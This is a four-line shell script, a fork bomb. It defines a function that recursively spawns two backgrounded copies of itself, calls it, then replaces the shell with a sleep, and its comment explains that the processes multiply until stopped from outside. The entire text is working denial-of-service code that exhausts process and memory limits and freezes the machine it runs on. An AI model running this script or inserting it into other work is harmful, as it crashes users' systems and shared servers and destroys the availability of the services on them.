# Every copy starts two more. The shell itself becomes a sleep, so that the run goes on until it is ended from outside.
bomb() { bomb | bomb & }
bomb
exec sleep 60
